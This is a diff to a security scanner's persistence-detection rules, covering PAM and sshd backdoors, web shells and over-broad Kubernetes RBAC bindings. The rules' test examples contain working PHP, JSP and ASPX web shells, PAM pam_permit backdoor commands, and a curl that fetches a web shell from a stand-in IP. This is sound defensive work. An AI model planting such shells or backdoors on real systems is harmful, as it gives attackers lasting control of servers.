@@ -4,10 +4,11 @@ import type { SimpleCommand } from '../shell/types.js';
 import { baseName } from '../shell/names.js';
 import { copyOperands, editsWithTee, ghApiCall, installMakesDirectories, optionValue, packageScripts, scriptIn, staticOption, VIMS } from '../shell/command-args.js';
 import { staticOutput } from '../shell/static-output.js';
-import { automationFile, classifyPath, canonicalPath, hiddenInTemp, HOME_IN_CODE, isStagingPath, isTestData, runsLater, type PathKind, type SensitivePath } from '../knowledge/paths.js';
+import { automationFile, classifyPath, canonicalPath, hiddenInTemp, HOME_IN_CODE, isStagingPath, isTestData, runsLater, SOURCE_FILE, type PathKind, type SensitivePath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, external, firstUrl, type Destination } from '../knowledge/hosts.js';
 import { FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell, savedFile, trustedSource } from './command_and_control.js';
 import { verifiesDownload } from './artifacts.js';
+import { decodeBase64Text } from '../knowledge/secrets.js';
 
 /** Crypto miners by binary name: shared with impact, and a sure sign that a persisted line is hostile. */
 export const MINERS: ReadonlySet<string> = new Set(['xmrig', 'xmrig-notls', 'xmr-stak', 'xmr-stak-cpu', 'minerd', 'cpuminer', 'cpuminer-multi', 'cpuminer-opt', 'cgminer', 'bfgminer', 'ethminer', 't-rex', 'nbminer', 'lolminer', 'lolMiner', 'phoenixminer', 'PhoenixMiner', 'gminer', 'teamredminer', 'srbminer', 'SRBMiner-MULTI', 'nanominer', 'ccminer', 'kdevtmpfsi', 'kinsing', 'xmrigDaemon', 'bminer', 'excavator', 'wildrig', 'rigel']);
@@ -55,6 +56,18 @@ const HOME_JOINED = new RegExp(`(?:${HOME_IN_CODE.source})\\s*[+.]\\s*['"]$`);
 /** Code before a literal that opens it to write: `writeFileSync(os.homedir() + '`, `file_put_contents(getenv("HOME")."`. */
 const WRITE_CALL = new RegExp(`(?:writeFileSync|appendFileSync|writeFile|appendFile|File\\.write|write_text|write_bytes|file_put_contents)\\(\\s*(?:os\\.path\\.expanduser\\(\\s*)?(?:(?:require\\(['"]os['"]\\)\\.)?(?:${HOME_IN_CODE.source})\\s*[+.]\\s*)?['"]?$`);
 
+/**
+ * The mode (`w` or `a`) in which code opens a path it first named in a variable: `p = "/etc/pam.d/common-auth"` …
+ * `open(p, "w")`, `$f = '/etc/cron.d/x'; file_put_contents($f, …)`. `before` is the code up to the literal's quote.
+ */
+function namedWrite(code: string, before: string): 'w' | 'a' | undefined {
+  const name = /(?:^|[^\w.])\$?([A-Za-z_]\w{0,63})\s*=\s*(?:Path\(\s*)?['"]$/.exec(before)?.[1];
+  if (name === undefined) return undefined;
+  const m = new RegExp(`\\b${name}\\s*,\\s*(?:mode\\s*=\\s*)?['"]([wa])|(writeFileSync|writeFile|write_text|write_bytes|file_put_contents)\\(\\s*\\$?${name}\\b|(appendFileSync|appendFile)\\(\\s*${name}\\b|\\b${name}\\.(write_text|write_bytes)\\(`).exec(code);
+  if (!m) return undefined;
+  return m[1] === 'a' || m[3] !== undefined || (m[2] === 'file_put_contents' && /FILE_APPEND/.test(code)) ? 'a' : 'w';
+}
+
 function writesOf(input: AnalysisInput): Written[] {
   const out: Written[] = [];
   const add = (path: string, text: string, cmd?: SimpleCommand, append = false) => { if (out.length < 256) out.push({ cmd, path, canonical: canonicalPath(path), sensitive: classifyPath(path), text, append }); };
@@ -97,15 +110,17 @@ function writesOf(input: AnalysisInput): Written[] {
   for (const sc of input.view?.scripts ?? []) {
     const code = sc.code.slice(0, 16384);
     for (const lit of sc.strings.slice(0, 64)) {
-      // an absolute or home path, or a project file something runs later (`package.json`, a workflow) named relative to the project
-      if (lit.length < 2 || lit.length >= 1024 || !(lit.startsWith('/') || lit.startsWith('~') || (lit.length < 256 && !/\s/.test(lit) && runsLater(lit)))) continue;
+      // an absolute or home path, or a project file something runs later (`package.json`, a workflow, the project's
+      // source) named relative to the project
+      if (lit.length < 2 || lit.length >= 1024 || !(lit.startsWith('/') || lit.startsWith('~') || (lit.length < 256 && !/\s/.test(lit) && (runsLater(lit) || SOURCE_FILE.test(lit))))) continue;
       // the same name may be read first and written later (`json.load(open("package.json"))` … `open("package.json", "w")`)
       for (let at = code.indexOf(lit), seen = 0; at >= 0 && seen < 8; at = code.indexOf(lit, at + lit.length), seen++) {
         const after = code.slice(at + lit.length, at + lit.length + 48);
         const before = code.slice(Math.max(0, at - 64), at);
         // `homedir() + '/.bashrc'`: a home-relative suffix
         const homed = lit.startsWith('/.') && HOME_JOINED.test(before);
-        const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1];
+        const viaName = namedWrite(code, before);
+        const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1] ?? viaName;
         const call = WRITE_CALL.test(before);
         // what is written: the code, and its literals as the language reads them (`"<?php eval(\$_POST[\"k\"]);"` is `eval($_POST["k"])`)
         if (mode || call) { add(homed ? `~${lit}` : lit, [code, ...sc.strings.slice(0, 64).filter((x) => x !== lit)].join('\n'), sc.command, mode === 'a' || /append/i.test(before) || /^['"]?\s*,[^)]{0,2048}FILE_APPEND/.test(code.slice(at + lit.length, at + lit.length + 2100))); break; }
@@ -384,16 +399,27 @@ function adminBindingFed(c: SimpleCommand): boolean {
 const manifestDocs = (spec: string): string[] => spec.slice(0, 65536).split(/\n---/, 256);
 
 /**
- * The first manifest document (of a `---` stream) that binds cluster-admin to everyone or every pod: the
- * default service account, every service account (`system:serviceaccounts`), anonymous or every authenticated user.
+ * The first manifest document (of a `---` stream) that binds cluster-admin, or a ClusterRole of the same stream that
+ * reads Secrets, to everyone or every pod: the default service account, every service account
+ * (`system:serviceaccounts`), anonymous or every authenticated user.
  */
 function adminBindingIn(spec: string): string | undefined {
-  for (const doc of manifestDocs(spec)) {
-    if (!/kind"?\s{0,8}:\s{0,8}"?ClusterRoleBinding/.test(doc) || !/name"?\s{0,8}:\s{0,8}"?cluster-admin\b/.test(doc)) continue;
+  const docs = manifestDocs(spec);
+  const roles = ['cluster-admin', ...docs.flatMap((doc) => secretReadingRole(doc) ?? [])];
+  for (const doc of docs) {
+    if (!/kind"?\s{0,8}:\s{0,8}"?ClusterRoleBinding/.test(doc)) continue;
+    const role = /roleRef"?\s{0,8}:[^]{0,200}?\bname"?\s{0,8}:\s{0,8}"?([a-z0-9][a-z0-9.:-]{0,252})/.exec(doc)?.[1];
+    if (role === undefined || !roles.includes(role)) continue;
     const everyone = /name"?\s{0,8}:\s{0,8}"?(default|system:anonymous|system:unauthenticated|system:authenticated|system:serviceaccounts(?::[\w-]{1,63})?)"?\s{0,8}(?:$|[,}\n])/m.exec(doc);
-    if (everyone) return `cluster-admin → ${everyone[1]}`;
+    if (everyone) return `${role} → ${everyone[1]}`;
   }
   return undefined;
+}
+
+/** The name of a ClusterRole document whose rules get, list or watch Secrets. */
+function secretReadingRole(doc: string): string | undefined {
+  if (!/kind"?\s{0,8}:\s{0,8}"?ClusterRole"?\s{0,8}(?:$|[,}\n])/m.test(doc) || !/[\s"'[,-]secrets["'\s\],]/.test(doc) || !/\b(?:get|list|watch)\b|["']\*["']/.test(doc)) return undefined;
+  return /metadata"?\s{0,8}:[\s{]{0,40}name"?\s{0,8}:\s{0,8}"?([a-z0-9][a-z0-9.:-]{0,252})/.exec(doc)?.[1];
 }
 
 /**
@@ -501,14 +527,16 @@ function hostileAutomation(recipe: string): boolean {
 /**
  * A script a project runs as tooling rather than an application's source (whose fetches and child processes
  * are its features): a shell script or any file with a shebang, or a script under scripts/, bin/, tools/, ci/
- * or a hooks directory, or named for an install, setup, bootstrap or update step.
+ * or a hooks directory, named for an install, setup, bootstrap or update step, or loaded by a build or test run.
  */
 function toolingScript(path: string, text: string): boolean {
   if (text.startsWith('#!') || /\.(?:sh|bash|zsh|ksh|command|ps1)$/.test(path)) return true;
   if (!SCRIPT_FILE.test(path)) return false;
   const name = path.slice(path.lastIndexOf('/') + 1);
-  return /(?:^|\/)(?:scripts?|bin|tools|ci|\.ci|hooks|\.githooks|\.husky)\//.test(path) || /^(?:pre|post)?(?:install|setup|bootstrap|update|prepare)\b/.test(name);
+  return /(?:^|\/)(?:scripts?|bin|tools|ci|\.ci|hooks|\.githooks|\.husky)\//.test(path) || /^(?:pre|post)?(?:install|setup|bootstrap|update|prepare)\b/.test(name) || BUILD_OR_TEST_CONFIG.test(name);
 }
+/** Files a build or test run loads as code: pytest's conftest.py, nox and invoke task files, bundlers' and test runners' `*.config.js`, gulp and grunt files. */
+const BUILD_OR_TEST_CONFIG = /^(?:conftest|noxfile|tasks|fabfile)\.py$|^(?:gulpfile|gruntfile)\.[cm]?[jt]s$|\.config\.[cm]?[jt]s$/i;
 
 /** Owners whose actions are the platforms' and vendors' own. */
 const FIRST_PARTY_ACTIONS = new Set(['actions', 'github', 'docker', 'aws-actions', 'google-github-actions', 'azure', 'hashicorp', 'gradle', 'pypa', 'ruby', 'oracle-actions']);
@@ -683,13 +711,25 @@ function siteAdminGrant(c: SimpleCommand): boolean {
 }
 
 /**
- * The request's input and code evaluated from a variable in one server script: the input passed on through a
- * variable (`$p = $_POST['d']; … eval('?>' . $f($p));`) is the same web shell as `eval($_POST['d'])`.
+ * The request's input and code or a process run from a variable in one server script: the input passed on through
+ * a variable (`$p = $_POST['d']; … eval('?>' . $f($p));`, `String c = request.getParameter("q"); … exec(new
+ * String[]{"/bin/sh", "-c", c})`) is the same web shell as `eval($_POST['d'])`. A page that starts processes at
+ * all is rare; one that also reads the request is a console for whoever sends it.
  */
-const REQUEST_INPUT = /\$_(?:GET|POST|REQUEST|COOKIE)\b/;
-const EVAL_OF_VARIABLE = /\b(?:eval|assert)\s*\(\s*(?:(?:'\?>'|"\?>")\s*\.\s*)?\$[A-Za-z_]/;
+const REQUEST_INPUT = /\$_(?:GET|POST|REQUEST|COOKIE)\b|\brequest\.get(?:Parameter|Header)\s*\(|\bRequest(?:\.(?:Form|QueryString|Params|Headers))?\s*\[/;
+const EVAL_OF_VARIABLE = /\b(?:eval|assert)\s*\(\s*(?:(?:'\?>'|"\?>")\s*\.\s*)?\$[A-Za-z_]|\b(?:system|shell_exec|passthru|popen|proc_open)\s*\(\s*\$[A-Za-z_]|getRuntime\(\)\.exec\(|\bnew\s+ProcessBuilder\b|\bProcess\.Start\(/;
 /** Files a web server runs rather than serves. */
 const SERVER_SCRIPT = /\.(?:php\d?|phtml|jspx?|aspx?|ashx|cfm|cgi)$/i;
+/** `eval(base64_decode("…"))`: a server script that runs a literal it keeps encoded. */
+const EVAL_OF_DECODED_LITERAL = /\b(?:eval|assert)\s*\(\s*(?:gzinflate\s*\(\s*|str_rot13\s*\(\s*){0,2}base64_decode\s*\(\s*["']([A-Za-z0-9+/]{16,8192}={0,2})["']/;
+
+/** Server code that runs what a request sends: directly, through a variable, or inside a literal it decodes first. */
+function webShellCode(path: string, text: string, depth = 0): boolean {
+  if (REQUEST_EXEC.test(text) || (SERVER_SCRIPT.test(path) && REQUEST_INPUT.test(text) && EVAL_OF_VARIABLE.test(text))) return true;
+  const literal = depth === 0 && SERVER_SCRIPT.test(path) ? EVAL_OF_DECODED_LITERAL.exec(text)?.[1] : undefined;
+  const decoded = literal === undefined ? undefined : decodeBase64Text(literal);
+  return decoded !== undefined && webShellCode(path, decoded.slice(0, 16384), 1);
+}
 
 /** PX-PERSIST-022's reading of one command: a new long-lived cloud or cluster credential, or an admin grant. */
 function credentialOrAdminGrant(c: SimpleCommand): string | undefined {
@@ -988,7 +1028,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-PERSIST-015', name: 'backdoors-authentication', score: 85, tactic: 'persistence', technique: 'T1556.003', strong: true,
     message: 'Modifies PAM or sshd authentication', why: 'pam_permit, pam_exec or a replaced pam_unix.so accept any password or log every one; PermitRootLogin/PermitEmptyPasswords open root login.',
     check: (i) => writesKind(i, ['auth-config']).filter((w) => !w.canonical.includes('sshd_config') || /PermitRootLogin\s+yes|PermitEmptyPasswords\s+yes|AuthorizedKeysFile|AuthorizedKeysCommand|AuthorizedPrincipalsCommand|ForceCommand/i.test(w.text.slice(0, 2000))).map((w) => `${w.cmd?.name ?? 'write'} ${w.path}`),
-    examples: { fire: ["sudo sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd", 'sudo cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so', "echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log.sh' | sudo tee -a /etc/pam.d/common-auth", "echo 'PermitRootLogin yes' | sudo tee -a /etc/ssh/sshd_config", "echo 'AuthorizedKeysCommand /tmp/.akc' | sudo tee -a /etc/ssh/sshd_config"], quiet: ['cat /etc/pam.d/sshd', "sudo sed -i 's/^#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config", 'sudo sshd -t'] },
+    examples: { fire: ["sudo sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd", 'sudo cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so', "echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log.sh' | sudo tee -a /etc/pam.d/common-auth", "echo 'PermitRootLogin yes' | sudo tee -a /etc/ssh/sshd_config", "echo 'AuthorizedKeysCommand /tmp/.akc' | sudo tee -a /etc/ssh/sshd_config", `sudo python3 - <<'EOF'\np = "/etc/pam.d/common-auth"\nsrc = open(p).read()\nopen(p, "w").write("auth sufficient pam_permit.so\\n" + src)\nEOF`], quiet: ['cat /etc/pam.d/sshd', `python3 - <<'EOF'\np = "/etc/pam.d/common-auth"\nprint(open(p).read())\nEOF`, "sudo sed -i 's/^#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config", 'sudo sshd -t'] },
   },
   {
     id: 'PX-PERSIST-016', name: 'creates-backdoor-account', score: 90, tactic: 'persistence', technique: 'T1136.001', strong: true,
@@ -1219,15 +1259,15 @@ export const RULES: readonly Rule[] = [
       const out: string[] = [];
       for (const w of writes(i)) {
         const text = w.text.slice(0, 16384);
-        if (REQUEST_EXEC.test(text) || (SERVER_SCRIPT.test(w.path) && REQUEST_INPUT.test(text) && EVAL_OF_VARIABLE.test(text))) out.push(`${w.path}: ${w.text.slice(0, 100)}`);
+        if (webShellCode(w.path, text)) out.push(`${w.path}: ${w.text.slice(0, 100)}`);
         // a server-side script downloaded from a raw IP, paste site or tunnel straight into what the web server runs
         else if (w.cmd && isFetcher(w.cmd) && SERVER_SCRIPT.test(w.path) && w.cmd.argv.some(dropUrl)) out.push(`${w.cmd.argv.join(' ').slice(0, 160)}`);
       }
       return out;
     },
     examples: {
-      fire: [`php -r 'file_put_contents("/var/www/html/wp-content/uploads/2024/03/.thumb.php","<?php @eval(\\$_POST[\\"k\\"]); ?>");'`, { Filesystem: { operation: 'Create', path: '/srv/shop/wp-content/mu-plugins/wp-cache-compat.php', content: "<?php\nadd_action('init', function () {\n    $p = isset($_POST['d']) ? $_POST['d'] : '';\n    $f = 'base' . '64_' . 'decode';\n    if ($p !== '') { eval('?>' . $f($p)); exit; }\n}, 1);\n" } }, `echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/.config.php`, `printf '<?php if(isset($_REQUEST["k"])){eval(base64_decode($_REQUEST["k"]));} ?>' > /var/www/html/wp-content/uploads/cache.php`, 'curl -so /var/www/html/images/thumb.php http://203.0.113.7/b374k.txt', { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/s.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' } }],
-      quiet: [{ Filesystem: { operation: 'Write', path: 'wp-content/plugins/forms/submit.php', content: "<?php\n$email = sanitize_email($_POST['email']);\n$rule = get_option('rule');\nif (eval_rule($rule, $email)) { wp_mail($email, 'Thanks', 'Got it'); }\n" } }, `echo '<?php phpinfo(); ?>' > /var/www/html/info.php`, `printf '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php`, 'curl -so public/vendor/jquery.min.js https://code.jquery.com/jquery-3.7.1.min.js', { Filesystem: { operation: 'Write', path: 'src/routes/api.ts', content: 'exec(req.query.cmd) // TODO remove' } }],
+      fire: [`php -r 'file_put_contents("/var/www/html/wp-content/uploads/2024/03/.thumb.php","<?php @eval(\\$_POST[\\"k\\"]); ?>");'`, { Filesystem: { operation: 'Create', path: '/srv/shop/wp-content/mu-plugins/wp-cache-compat.php', content: "<?php\nadd_action('init', function () {\n    $p = isset($_POST['d']) ? $_POST['d'] : '';\n    $f = 'base' . '64_' . 'decode';\n    if ($p !== '') { eval('?>' . $f($p)); exit; }\n}, 1);\n" } }, `echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/.config.php`, `printf '<?php if(isset($_REQUEST["k"])){eval(base64_decode($_REQUEST["k"]));} ?>' > /var/www/html/wp-content/uploads/cache.php`, 'curl -so /var/www/html/images/thumb.php http://203.0.113.7/b374k.txt', { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/s.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' } }, { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/status.jsp', content: '<%\nString c = request.getParameter("q");\nif (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c}); }\n%>\n' } }, { Filesystem: { operation: 'Write', path: 'C:/inetpub/wwwroot/status.aspx', content: '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  string c = Request["cmd"];\n  var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c));\n}\n</script>\n' } }, `printf '%s\\n' '<?php @eval(base64_decode("aWYoaXNzZXQoJF9SRVFVRVNUWyd4J10pKXtzeXN0ZW0oJF9SRVFVRVNUWyd4J10pO30=")); ?>' | tee -a /var/www/html/wp-includes/version.php`],
+      quiet: [{ Filesystem: { operation: 'Write', path: 'wp-content/plugins/forms/submit.php', content: "<?php\n$email = sanitize_email($_POST['email']);\n$rule = get_option('rule');\nif (eval_rule($rule, $email)) { wp_mail($email, 'Thanks', 'Got it'); }\n" } }, `echo '<?php phpinfo(); ?>' > /var/www/html/info.php`, `printf '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php`, 'curl -so public/vendor/jquery.min.js https://code.jquery.com/jquery-3.7.1.min.js', { Filesystem: { operation: 'Write', path: 'src/routes/api.ts', content: 'exec(req.query.cmd) // TODO remove' } }, { Filesystem: { operation: 'Write', path: 'webapp/search.jsp', content: '<%\nString q = request.getParameter("q");\nout.println(Encode.forHtml(q));\n%>\n' } }, { Filesystem: { operation: 'Write', path: 'public/logo.php', content: '<?php header("Content-Type: image/gif"); echo base64_decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"); ?>' } }, { Filesystem: { operation: 'Write', path: 'public/render.php', content: '<?php $tpl = base64_decode("PHA+SGVsbG8sIHt7bmFtZX19PC9wPg=="); echo str_replace("{{name}}", htmlspecialchars($_GET["name"]), $tpl); ?>' } }],
     },
   },
   {
@@ -1373,13 +1413,13 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-PERSIST-040', name: 'manifest-binds-cluster-admin-to-everyone', score: 80, tactic: 'persistence', technique: 'T1098',
-    message: 'Writes a Kubernetes manifest that binds cluster-admin to every service account, a default account, anonymous or every authenticated user',
+    message: 'Writes a Kubernetes manifest that binds cluster-admin, or a role that reads Secrets, to every service account, a default account, anonymous or every authenticated user',
     why: 'Once applied, any pod in the cluster (or anyone who can reach the API) can do anything in it: read every secret, run privileged pods on every node. It hides well among the bindings a change really needs.',
     alternative: 'Bind the one service account that needs access to a role with only the verbs and resources it uses.',
     check: (i) => writtenTo(i, /\.(?:ya?ml|json)$/, adminBindingIn),
     examples: {
-      fire: [{ Filesystem: { operation: 'Create', path: '/home/s/platform/deploy/log-shipper/rbac.yaml', content: 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: log-shipper\nroleRef:\n  kind: ClusterRole\n  name: log-shipper-metadata\nsubjects:\n  - kind: ServiceAccount\n    name: log-shipper\n    namespace: observability\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: log-shipper-compat\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts\n' } }],
-      quiet: [{ Filesystem: { operation: 'Create', path: 'deploy/rbac.yaml', content: 'kind: ClusterRoleBinding\nmetadata:\n  name: argocd-admin\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: argocd-application-controller\n    namespace: argocd\n---\nkind: RoleBinding\nmetadata:\n  name: default-view\nroleRef:\n  kind: ClusterRole\n  name: view\nsubjects:\n  - kind: ServiceAccount\n    name: default\n' } }],
+      fire: [{ Filesystem: { operation: 'Write', path: 'k8s/config-sync-rbac.yaml', content: 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: config-sync\nrules:\n  - apiGroups: [""]\n    resources: ["secrets", "configmaps"]\n    verbs: ["get", "list", "watch"]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: config-sync\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts\n    apiGroup: rbac.authorization.k8s.io\nroleRef:\n  kind: ClusterRole\n  name: config-sync\n  apiGroup: rbac.authorization.k8s.io\n' } }, { Filesystem: { operation: 'Create', path: '/home/s/platform/deploy/log-shipper/rbac.yaml', content: 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: log-shipper\nroleRef:\n  kind: ClusterRole\n  name: log-shipper-metadata\nsubjects:\n  - kind: ServiceAccount\n    name: log-shipper\n    namespace: observability\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: log-shipper-compat\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts\n' } }],
+      quiet: [{ Filesystem: { operation: 'Write', path: 'k8s/config-sync-rbac.yaml', content: 'kind: ClusterRole\nmetadata:\n  name: config-sync\nrules:\n  - apiGroups: [""]\n    resources: ["secrets"]\n    verbs: ["get", "list"]\n---\nkind: ClusterRoleBinding\nmetadata:\n  name: config-sync\nsubjects:\n  - kind: ServiceAccount\n    name: config-sync\n    namespace: platform\nroleRef:\n  kind: ClusterRole\n  name: config-sync\n' } }, { Filesystem: { operation: 'Write', path: 'k8s/viewers.yaml', content: 'kind: ClusterRole\nmetadata:\n  name: pod-viewer\nrules:\n  - resources: ["pods"]\n    verbs: ["get", "list"]\n---\nkind: ClusterRoleBinding\nmetadata:\n  name: pod-viewer\nsubjects:\n  - kind: Group\n    name: system:authenticated\nroleRef:\n  kind: ClusterRole\n  name: pod-viewer\n' } }, { Filesystem: { operation: 'Create', path: 'deploy/rbac.yaml', content: 'kind: ClusterRoleBinding\nmetadata:\n  name: argocd-admin\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: argocd-application-controller\n    namespace: argocd\n---\nkind: RoleBinding\nmetadata:\n  name: default-view\nroleRef:\n  kind: ClusterRole\n  name: view\nsubjects:\n  - kind: ServiceAccount\n    name: default\n' } }],
     },
   },
   {
